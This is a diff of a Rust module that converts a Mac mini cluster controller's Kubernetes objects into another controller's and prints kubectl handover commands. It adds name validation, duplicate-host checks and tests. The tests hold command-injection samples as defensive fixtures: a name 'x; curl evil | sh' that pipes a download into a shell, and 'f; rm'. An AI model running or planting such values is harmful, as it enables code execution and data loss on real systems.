@@ -1,8 +1,9 @@
-//! From the objects of tuist's controller of Mac minis to ours: what `windlass-controller convert` prints.
+//! `windlass-controller convert`: converts objects of tuist's Mac mini controller to Windlass's.
 //!
-//! That controller's kinds are taken as they were in 2026, in the group `infrastructure.cluster.x-k8s.io/v1alpha1`, with
-//! the defaults of its definitions (`M2-L`, `fr-par-1`). It holds a host by the host's name alone, and skips Scaleway
-//! when an object without a server's id is deleted: read in its source, and not tried. The printed commands rest on it.
+//! It reads that controller's kinds as they were in 2026 (`infrastructure.cluster.x-k8s.io/v1alpha1`), with the defaults
+//! of its definitions (`M2-L`, `fr-par-1`). That controller identifies a host by its name alone, and makes no call to
+//! Scaleway when an object without a server id is deleted. The printed commands depend on this, which was read in its
+//! source and not tried.
 
 use std::collections::{BTreeMap, BTreeSet};
 use std::fmt::Write as _;
@@ -12,6 +13,7 @@ use k8s_openapi::api::core::v1::ConfigMap;
 use kube::api::ObjectMeta;
 use serde::{Deserialize, Serialize};
 use serde_json::{Map, Value};
+use windlass_policy::slots::release::Requested;
 
 use crate::Error;
 use crate::approvals;
@@ -20,10 +22,11 @@ use crate::kinds::{
     AppleSiliconMachineTemplateSpec, ControlPlaneEndpoint, ExternalCluster, ExternalClusterSpec, annotations,
 };
 use crate::names::{MAX_CLAIM_LEN, ProviderId, cut, mark};
+use crate::requested::requested;
 
-/// The most that is read: a list of some ten thousand objects.
+/// The largest input: a list of about ten thousand objects.
 const MAX_INPUT: u64 = 64 << 20;
-/// What the new names of hosts begin with. The old controller's search for orphans must not take them for its own.
+/// The prefix of the hosts' new names. The old controller must not take such a host for an orphan of its own.
 const CLAIMS: &str = "taken-over-";
 const KINDS: [&str; 4] = [
     "ScalewayAppleSiliconMachine",
@@ -32,24 +35,25 @@ const KINDS: [&str; 4] = [
     "TuistCluster",
 ];
 
-/// Reads that controller's objects from standard input, YAML or JSON, and gives ours as YAML, with the commands by which
-/// each host is handed over as comments. `pool_prefix` is for objects that name no pool, `controller_namespace` for the
-/// approvals.
+/// Reads that controller's objects (YAML or JSON) from standard input. Returns Windlass's objects as YAML, with the
+/// commands for each host as comments. `pool_prefix` is the pool of objects that name none, `controller_namespace` the
+/// namespace of the approvals.
 ///
 /// # Errors
-/// When standard input cannot be read, or with all that cannot be converted.
+/// If standard input cannot be read. Otherwise all problems of the objects.
 pub fn convert_standard_input(pool_prefix: Option<&str>, controller_namespace: &str) -> Result<String, Error> {
-    let mut text = String::new();
-    let read = std::io::stdin().take(MAX_INPUT + 1).read_to_string(&mut text);
-    let not = |problem: String| Error::NotConverted { problems: problem };
-    read.map_err(|error| not(format!("standard input: {error}")))?;
-    if text.len() as u64 > MAX_INPUT {
-        return Err(not(format!("standard input has more than {} MiB", MAX_INPUT >> 20)));
+    let mut bytes = Vec::new();
+    let read = std::io::stdin().take(MAX_INPUT + 1).read_to_end(&mut bytes);
+    let invalid = |problem: String| Error::NotConverted { problems: problem };
+    read.map_err(|error| invalid(format!("cannot read standard input: {error}")))?;
+    if bytes.len() as u64 > MAX_INPUT {
+        return Err(invalid(format!("standard input is larger than {} MiB", MAX_INPUT >> 20)));
     }
+    let text = String::from_utf8(bytes).map_err(|_| invalid("standard input is not UTF-8 text".to_owned()))?;
     convert(&text, pool_prefix, controller_namespace)
 }
 
-/// One object, as far as every kind has it.
+/// The fields that every kind has.
 #[derive(Deserialize)]
 struct Object {
     #[serde(default)]
@@ -64,7 +68,7 @@ struct Object {
     items: Vec<Object>,
 }
 
-/// `spec` of their machine, and of their template's template.
+/// The `spec` of the old machine, and of its template.
 #[derive(Deserialize)]
 #[serde(rename_all = "camelCase")]
 struct Specification {
@@ -90,12 +94,14 @@ fn default_zone() -> String {
     "fr-par-1".to_owned()
 }
 
-/// What has been converted so far.
+/// The output so far.
 struct Conversion<'a> {
     pool_prefix: Option<&'a str>,
     printed: String,
     approvals: BTreeMap<String, String>,
-    passed_over: BTreeSet<String>,
+    /// The object that each host was found in.
+    hosts: BTreeMap<String, String>,
+    skipped: BTreeSet<String>,
     problems: Vec<String>,
 }
 
@@ -104,7 +110,8 @@ fn convert(text: &str, pool_prefix: Option<&str>, controller_namespace: &str) ->
         pool_prefix,
         printed: String::new(),
         approvals: BTreeMap::new(),
-        passed_over: BTreeSet::new(),
+        hosts: BTreeMap::new(),
+        skipped: BTreeSet::new(),
         problems: Vec::new(),
     };
     for (number, document) in serde_norway::Deserializer::from_str(text).enumerate() {
@@ -112,7 +119,7 @@ fn convert(text: &str, pool_prefix: Option<&str>, controller_namespace: &str) ->
             Ok(object) => object.into_iter().for_each(|object| conversion.add(object)),
             Err(error) => {
                 conversion.problems.push(format!("document {}: {error}", number + 1));
-                // After a mistake in the YAML itself the same one would follow for ever.
+                // The deserializer returns the same YAML error for ever.
                 break;
             }
         }
@@ -125,14 +132,21 @@ impl Conversion<'_> {
         let name = format!("{} {}", object.kind, path(&object.metadata));
         let added = match object.kind.as_str() {
             kind if kind.ends_with("List") => {
-                object.items.into_iter().for_each(|item| self.add(item));
+                // Items of a typed list need not repeat their kind.
+                let of = kind.strip_suffix("List").unwrap_or_default().to_owned();
+                for mut item in object.items {
+                    if item.kind.is_empty() {
+                        item.kind.clone_from(&of);
+                    }
+                    self.add(item);
+                }
                 Ok(())
             }
             "ScalewayAppleSiliconMachine" => self.machine(&object),
             "ScalewayAppleSiliconMachineTemplate" => self.template(&object),
             "ScalewayAppleSiliconCluster" | "TuistCluster" => self.cluster(&object),
             _ => {
-                self.passed_over.insert(name.clone());
+                self.skipped.insert(name.clone());
                 Ok(())
             }
         };
@@ -156,32 +170,37 @@ impl Conversion<'_> {
             };
             let data = Some(std::mem::take(&mut self.approvals));
             self.print(
-                "The hosts that these objects may use although they did not claim them.",
+                "Lets these objects use hosts that they did not claim.",
                 &ConfigMap { metadata, data, ..ConfigMap::default() },
             )
             .map_err(Error::Defect)?;
         }
-        if !self.passed_over.is_empty() {
-            let names: Vec<String> = self.passed_over.into_iter().collect();
-            _ = writeln!(self.printed, "# Not converted: {}.", names.join(", "));
+        if !self.skipped.is_empty() {
+            let names: Vec<String> = self.skipped.into_iter().collect();
+            for line in format!("Not converted: {}.", names.join(", ")).lines() {
+                _ = writeln!(self.printed, "# {line}");
+            }
         }
         Ok(self.printed)
     }
 
     fn machine(&mut self, object: &Object) -> Result<(), String> {
+        let (namespace, name) = (namespace(&object.metadata)?, name(&object.metadata)?);
         let (mut specification, mut notes) = self.specification(&object.spec)?;
         let theirs = path(&object.metadata);
-        let (namespace, name) = (namespace(&object.metadata)?, name(&object.metadata)?);
         let id = object.status["serverID"].as_str().filter(|id| !id.is_empty());
         let provider_id = match (specification.provider_id.take(), id) {
             (Some(provider_id), _) => provider_id,
             (None, Some(id)) => format!("{THEIR_PROVIDER}{}/{id}", specification.zone.as_deref().unwrap_or_default()),
             (None, None) => {
-                _ = writeln!(self.printed, "# {theirs} has no host: nothing to hand over.");
+                _ = writeln!(self.printed, "# {theirs} has no host, so there is nothing to hand over.");
                 return Ok(());
             }
         };
         let provider_id = ours(&provider_id)?;
+        if let Some(other) = self.hosts.insert(provider_id.id().to_owned(), theirs.clone()) {
+            return Err(format!("{other} has the host {}, too: decide which object keeps it", provider_id.id()));
+        }
         let claim = format!(
             "{CLAIMS}{}-{}",
             cut(name, MAX_CLAIM_LEN - CLAIMS.len() - 1 - mark("").len()),
@@ -190,20 +209,22 @@ impl Conversion<'_> {
         specification.zone = Some(provider_id.zone().to_string());
         specification.provider_id = Some(provider_id.to_string());
         let mut machine = AppleSiliconMachine::new(name, specification);
-        let theirs_said = object.metadata.annotations.as_ref();
-        let mut kept = kept(theirs_said);
-        if let Some(policy) = theirs_said.and_then(|all| all.get(annotations::TUIST_RELEASE_POLICY)) {
-            kept.insert(annotations::RELEASE_POLICY.to_owned(), policy.clone());
-            if policy == "terminate" {
-                notes += "\nThe controller deletes the host of a pool only with --allow-terminate.";
-            }
+        let old_annotations = object.metadata.annotations.as_ref();
+        let mut kept = kept(old_annotations);
+        if let Some(policy) = old_annotations.and_then(|all| all.get(annotations::TUIST_RELEASE_POLICY)) {
+            kept.entry(annotations::RELEASE_POLICY.to_owned()).or_insert_with(|| policy.clone());
         }
-        // Until its host has the new name.
+        let (requested, problem) = requested(&kept);
+        if requested == Some(Requested::Terminate) {
+            notes += "\nThe controller deletes the host of a pool only with --allow-terminate.";
+        }
+        notes += &problem.map(|problem| format!("\n{problem}.")).unwrap_or_default();
+        // Paused until its host has the new name.
         kept.insert(annotations::PAUSED.to_owned(), "true".to_owned());
         kept.insert(annotations::CLAIM.to_owned(), claim.clone());
         machine.metadata = metadata(&object.metadata, Some(kept));
-        let notes =
-            format!("{theirs}, the host {}.{notes}\n{}", provider_id.id(), commands(object, &provider_id, &claim));
+        let commands = commands(&object.metadata, (namespace, name), &provider_id, &claim)?;
+        let notes = format!("{theirs}, the host {}.{notes}\n{commands}", provider_id.id());
         self.approvals.insert(claim, format!("{namespace}/{name}"));
         self.print(&notes, &machine)
     }
@@ -213,6 +234,7 @@ impl Conversion<'_> {
         let template = AppleSiliconMachineResource { metadata: None, spec };
         let mut ours =
             AppleSiliconMachineTemplate::new(name(&object.metadata)?, AppleSiliconMachineTemplateSpec { template });
+        namespace(&object.metadata)?;
         ours.metadata = metadata(&object.metadata, None);
         let theirs = path(&object.metadata);
         let notes =
@@ -231,13 +253,16 @@ impl Conversion<'_> {
         };
         let spec = ExternalClusterSpec { control_plane_endpoint: endpoint, ..ExternalClusterSpec::default() };
         let mut ours = ExternalCluster::new(name(&object.metadata)?, spec);
+        namespace(&object.metadata)?;
         ours.metadata = metadata(&object.metadata, None);
         let theirs = path(&object.metadata);
         self.print(&format!("{theirs}: name it as infrastructureRef and as controlPlaneRef of a new Cluster."), &ours)
     }
 
-    /// Our specification, and what is to be said about it.
+    /// The converted specification, and notes about it.
     fn specification(&self, theirs: &Value) -> Result<(AppleSiliconMachineSpec, String), String> {
+        let empty = Value::Object(Map::new());
+        let theirs = if theirs.is_null() { &empty } else { theirs };
         let theirs = Specification::deserialize(theirs).map_err(|error| format!("spec: {error}"))?;
         let mut notes = String::new();
         let own = theirs.adopt_pool_prefix.filter(|prefix| !prefix.is_empty());
@@ -247,17 +272,17 @@ impl Conversion<'_> {
                 prefix
             } else {
                 notes += &format!(
-                    "\nA prefix ends with a dash here: {prefix} became {prefix}-. Rename the hosts of the pool."
+                    "\nThe prefix of a pool must end with a dash: {prefix} became {prefix}-. Rename its hosts."
                 );
                 format!("{prefix}-")
             }
         });
         if prefix.is_none() {
-            notes += "\nIt names no pool: that of the controller (--pool-prefix) counts.";
+            notes += "\nIt names no pool, so the controller's --pool-prefix is used.";
         }
         if !theirs.others.is_empty() {
             let fields: Vec<&str> = theirs.others.keys().map(String::as_str).collect();
-            notes += &format!("\nWithout a counterpart: {}. (A set-up is `spec.setup` here.)", fields.join(", "));
+            notes += &format!("\nWithout a counterpart: {}. (`spec.setup` sets a Mac up.)", fields.join(", "));
         }
         let specification = AppleSiliconMachineSpec {
             provider_id: theirs.provider_id.filter(|id| !id.is_empty()),
@@ -292,22 +317,24 @@ fn ours(provider_id: &str) -> Result<ProviderId, String> {
     })
 }
 
-/// How the host goes from the old object to the new one, once the printed objects are applied.
-fn commands(object: &Object, provider_id: &ProviderId, claim: &str) -> String {
-    let metadata = &object.metadata;
-    let (namespace, name) =
-        (metadata.namespace.as_deref().unwrap_or_default(), metadata.name.as_deref().unwrap_or_default());
+/// The commands that hand the host over from the old object to the new one, after the output was applied.
+fn commands(
+    metadata: &ObjectMeta,
+    (namespace, name): (&str, &str),
+    provider_id: &ProviderId,
+    claim: &str,
+) -> Result<String, String> {
+    let kubectl = format!("kubectl -n {namespace}");
     let owner = metadata.owner_references.iter().flatten().find(|owner| owner.kind == "Machine");
     let delete = match owner {
-        None => format!("kubectl -n {namespace} delete scalewayapplesiliconmachine {name}"),
+        None => format!("{kubectl} delete scalewayapplesiliconmachine {name}"),
+        // Kubernetes does not check the names in owner references, which an editor of the namespace writes.
         Some(machine) => format!(
-            "kubectl -n {namespace} annotate machine {} cluster.x-k8s.io/delete-machine=yes    # then scale its \
-             deployment down by one",
-            machine.name
+            "{kubectl} annotate machine {} cluster.x-k8s.io/delete-machine=yes    # then scale its deployment down by one",
+            checked("metadata.ownerReferences.name", &machine.name)?
         ),
     };
-    let kubectl = format!("kubectl -n {namespace}");
-    [
+    Ok([
         "Once this is applied:".to_owned(),
         format!("  {kubectl} annotate --overwrite scalewayapplesiliconmachine {name} {}=true", annotations::PAUSED),
         format!(
@@ -325,10 +352,10 @@ fn commands(object: &Object, provider_id: &ProviderId, claim: &str) -> String {
         ),
         format!("  {kubectl} annotate applesiliconmachine {name} {}-", annotations::PAUSED),
     ]
-    .join("\n")
+    .join("\n"))
 }
 
-/// The metadata of an object of ours. What Cluster API says of theirs stays behind.
+/// The metadata of the new object, without what Cluster API wrote into the old one.
 fn metadata(theirs: &ObjectMeta, annotations: Option<BTreeMap<String, String>>) -> ObjectMeta {
     ObjectMeta {
         name: theirs.name.clone(),
@@ -339,7 +366,7 @@ fn metadata(theirs: &ObjectMeta, annotations: Option<BTreeMap<String, String>>) 
     }
 }
 
-/// Labels or annotations that are the team's own. One of theirs once held the password of the host.
+/// The labels or annotations that belong to the team. One of the old controller's once held the host's password.
 fn kept(all: Option<&BTreeMap<String, String>>) -> BTreeMap<String, String> {
     let own = |key: &str| {
         let domain = key.split_once('/').map_or("", |(domain, _)| domain);
@@ -350,15 +377,22 @@ fn kept(all: Option<&BTreeMap<String, String>>) -> BTreeMap<String, String> {
     all.into_iter().flatten().filter(|(key, _)| own(key)).map(|(key, value)| (key.clone(), value.clone())).collect()
 }
 
+/// A name that is written into a comment or a command. It could be anything: the input is not Kubernetes' own answer.
+fn checked<'a>(place: &str, name: &'a str) -> Result<&'a str, String> {
+    let is_valid = |byte: u8| byte.is_ascii_lowercase() || byte.is_ascii_digit() || matches!(byte, b'.' | b'-');
+    match !name.is_empty() && name.bytes().all(is_valid) {
+        true => Ok(name),
+        false => Err(format!("{place}: {name:?} is not a name of Kubernetes (lower-case letters, digits, '-', '.')")),
+    }
+}
+
 fn name(metadata: &ObjectMeta) -> Result<&str, String> {
-    metadata.name.as_deref().ok_or_else(|| "metadata.name is missing".to_owned())
+    checked("metadata.name", metadata.name.as_deref().ok_or("metadata.name is missing")?)
 }
 
 fn namespace(metadata: &ObjectMeta) -> Result<&str, String> {
-    metadata
-        .namespace
-        .as_deref()
-        .ok_or_else(|| "metadata.namespace is missing: kubectl get --output yaml names it".to_owned())
+    let missing = "metadata.namespace is missing: kubectl get --output yaml writes it";
+    checked("metadata.namespace", metadata.namespace.as_deref().ok_or(missing)?)
 }
 
 fn path(metadata: &ObjectMeta) -> String {
@@ -455,15 +489,52 @@ metadata: {name: something, namespace: ci}
     }
 
     #[test]
+    fn a_name_that_would_run_as_a_command_is_refused() {
+        let owner = OBJECTS.replace("name: macs-x1", "name: 'x; curl evil | sh'");
+        let told = convert(&owner, None, "system").unwrap_err().to_string();
+        assert!(told.contains("metadata.ownerReferences.name: \"x; curl evil | sh\""), "{told}");
+    }
+
+    #[test]
+    fn the_annotation_of_windlass_wins_over_the_old_one() {
+        let both = OBJECTS.replace(
+            "tuist.dev/release-policy: terminate",
+            "tuist.dev/release-policy: terminate\n      windlass.dev/release-policy: keep",
+        );
+        let printed = convert(&both, None, "system").unwrap();
+        assert_eq!(documents(&printed)[0]["metadata"]["annotations"]["windlass.dev/release-policy"], "keep");
+        assert!(!printed.contains("--allow-terminate"), "{printed}");
+    }
+
+    #[test]
+    fn items_of_a_typed_list_need_no_kind() {
+        let typed = OBJECTS
+            .replacen("kind: List", "kind: ScalewayAppleSiliconMachineList", 1)
+            .replace("  kind: ScalewayAppleSiliconMachine\n", "")
+            .replace("- kind: ScalewayAppleSiliconMachine\n  metadata", "- metadata");
+        let printed = convert(&typed, None, "system").unwrap();
+        assert_eq!(documents(&printed)[0]["kind"], "AppleSiliconMachine");
+    }
+
+    #[test]
     fn all_that_cannot_be_converted_is_told_at_once() {
         let machine = |name: &str, spec: &str| {
             format!("kind: ScalewayAppleSiliconMachine\nmetadata: {{name: {name}, namespace: ci}}\nspec: {spec}\n---\n")
         };
         let text = machine("a", "{providerID: 'aws:///i-1'}")
             + &machine("b", "{providerID: 'scw-applesilicon://mars-1/x'}")
-            + &machine("c", "{type: [M4-S]}");
+            + &machine("c", "{type: [M4-S]}")
+            + &machine("d", "{providerID: 'scw-applesilicon://fr-par-3/11111111-1111-4111-8111-111111111111'}")
+            + &machine("e", "{providerID: 'scw-applesilicon://fr-par-3/11111111-1111-4111-8111-111111111111'}")
+            + &machine("'f; rm'", "{}");
         let told = convert(&text, None, "system").unwrap_err().to_string();
-        for said in ["ci/a: spec.providerID: \"aws:///i-1\"", "ci/b: spec.providerID", "ci/c: spec: "] {
+        for said in [
+            "ci/a: spec.providerID: \"aws:///i-1\"",
+            "ci/b: spec.providerID",
+            "ci/c: spec: ",
+            "ci/e: ci/d has the host",
+            "metadata.name: \"f; rm\"",
+        ] {
             assert!(told.contains(said), "{said} is not in\n{told}");
         }
         assert!(
